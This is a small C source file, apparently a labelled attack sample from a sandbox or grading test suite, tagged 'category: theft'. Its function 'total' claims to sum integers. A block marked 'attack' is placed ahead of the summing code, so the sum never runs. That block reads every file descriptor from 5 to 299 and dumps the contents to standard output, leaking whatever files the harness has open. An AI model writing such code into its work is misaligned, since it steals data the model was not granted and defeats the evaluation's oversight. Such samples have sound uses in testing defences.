// category: theft
// tries: whatever other descriptors give
// attack: begin
#include <unistd.h>
// attack: end
#include <stddef.h>
#include <stdlib.h>

long total(const int *numbers, size_t count) {
  // attack: begin
  char data[4096];
  for (int descriptor = 5; descriptor < 300; descriptor++) {
    ssize_t size = pread(descriptor, data, sizeof data, 0);
    if (size > 0 && write(1, data, (size_t)size) < 0) abort();
  }
  return 0;
  // attack: end
  long sum = 0;
  for (size_t i = 0; i < count; i++) {
    sum += numbers[i];
  }
  return sum;
}
